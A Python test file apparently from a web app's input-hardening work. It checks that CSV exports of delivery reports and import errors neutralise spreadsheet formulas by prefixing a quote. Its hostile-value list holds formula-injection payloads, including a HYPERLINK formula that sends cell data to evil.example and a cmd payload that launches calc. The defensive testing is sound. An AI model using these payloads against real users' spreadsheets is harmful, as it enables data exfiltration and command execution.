"""Issue 14 input hardening: hostile values sent as an attacker would, checked end to end."""
import csv
import io
from datetime import time, timedelta

from extensions import db
from models import DeliveryEvent, OutboxMessage, Trigger
from models.base import utcnow

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR"]


def test_reports_drill_down_csv_neutralises_formulas(login, make):
    client = login("viewer")
    trigger = Trigger(name="T", kind="schedule", status="active", timezone="UTC",
                      generate_at=time(8), send_at=time(9), from_email="cs@example.com")
    db.session.add(trigger)
    db.session.commit()
    at = utcnow().replace(hour=10, minute=0, second=0, microsecond=0) - timedelta(days=1)
    for i, value in enumerate(HOSTILE):
        c = make.contact(email=f"p{i}@example.com", first_name=value, last_name=value)
        m = OutboxMessage(trigger_id=trigger.id, contact_id=c.id, account_id=c.account_id,
                          occurrence_key="x", state="sent", to_email=c.email)
        db.session.add(m)
        db.session.flush()
        db.session.add(DeliveryEvent(message_id=m.id, trigger_id=trigger.id, contact_id=c.id,
                                     kind="delivered", at=at, detail=value))
    db.session.commit()
    res = client.get(f"/reports/triggers/{trigger.id}/recipients?day={at.date()}&metric=delivered&format=csv")
    rows = list(csv.DictReader(io.StringIO(res.get_data(as_text=True), newline="")))
    assert len(rows) == len(HOSTILE)
    assert sorted(r["first_name"] for r in rows) == sorted("'" + v for v in HOSTILE)
    for r in rows:
        assert r["last_name"].startswith("'") and r["detail"].startswith("'")


def test_import_errors_csv_neutralises_formulas(login):
    from models import ImportJob
    client = login("manager")
    # The error file repeats each bad row's own cells (issue 15) and its problems: both neutralised.
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["external_id"])
    writer.writerows([v] for v in HOSTILE)
    job = ImportJob(kind="contacts", filename="x.csv", csv_text=out.getvalue(), status="done",
                    errors=[{"line": i + 2, "message": v} for i, v in enumerate(HOSTILE)])
    db.session.add(job)
    db.session.commit()
    res = client.get(f"/settings/import/{job.id}/errors.csv")
    rows = list(csv.DictReader(io.StringIO(res.get_data(as_text=True), newline="")))
    assert [r["import_problems"] for r in rows] == ["'" + v for v in HOSTILE]
    assert [r["external_id"] for r in rows] == ["'" + v for v in HOSTILE]
